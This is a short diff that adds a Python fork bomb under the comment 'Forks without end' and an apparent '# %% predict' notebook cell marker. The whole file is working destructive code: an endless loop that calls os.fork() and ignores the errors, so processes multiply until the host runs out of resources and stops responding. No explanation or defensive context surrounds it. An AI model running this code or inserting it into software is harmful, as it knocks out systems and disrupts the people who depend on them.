@@ -1,0 +1,9 @@
+# Forks without end.
+# %% predict
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
